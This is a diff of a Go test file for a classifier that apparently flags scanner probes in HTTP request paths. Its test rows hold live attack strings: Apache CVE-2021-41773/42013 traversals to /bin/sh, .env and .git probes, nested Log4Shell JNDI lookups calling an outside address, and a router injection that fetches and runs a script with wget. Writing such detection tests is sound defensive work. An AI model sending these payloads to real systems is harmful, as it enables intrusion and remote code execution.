@@ -73,6 +73,37 @@ func TestProbeOf(t *testing.T) {
 		{"/?q=%24%7BJNDI%3Aldap%3A%2F%2Fx%2Fa%7D", probeStrong},
 		{"/docs/jndi-lookups.html", probeNone},
 		{"/search?q=jndi:ldap", probeNone},
+		// Percent-encoded probes, as the server decodes them.
+		{"/%2eenv", probeStrong},
+		{"/.%65nv", probeStrong},
+		{"/%2e%67it/config", probeStrong},
+		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", probeStrong},                // CVE-2021-41773 (Daniloday/ubuntu)
+		{"/icons/.%%32%65/.%%32%65/apache2/icons/sphere1.png", probeStrong}, // CVE-2021-42013, decoded twice
+		{"/caf%C3%A9/men%C3%BC%20du%20jour.html", probeNone},
+		{"/files/report%202024.pdf", probeNone},
+		{"/search?q=%2Eenvironment", probeNone},
+		// Path tricks: nothing but slashes.
+		{"///", probeStrong},
+		{"////", probeStrong},
+		{"//", probeNone},
+		{"/blog//post", probeNone},
+		// Log4Shell hidden by nesting, in the path or the query, plain or
+		// encoded; a broken template's ${id} is none.
+		{"/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}", probeStrong},
+		{"/${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7/a}", probeStrong},
+		{"/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.7%7D", probeStrong},
+		{"/?v=${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://198.51.100.7/a}", probeStrong},
+		{"/images/${id}.png", probeNone},
+		{"/api/items?filter=${query}", probeNone},
+		// Proxy checks and devices' pages, asked for by scanners only.
+		{"/testproxy.php", probeStrong},
+		{"/login.rsp", probeStrong},
+		{"/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", probeStrong},
+		{"/editBlackAndWhiteList", probeStrong},
+		{"/onvif/device_service", probeStrong},
+		{"/ISAPI/Security/userCheck", probeStrong},
+		{"/restore.php", probeWeak},
+		{"/restoreplan/", probeNone},
 		// LuCI, bare and with TP-Link Archer's injection (dmjacas/logs).
 		{"/cgi-bin/luci", probeStrong},
 		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2Fx%2Ft%7Csh%3B%60)", probeStrong},
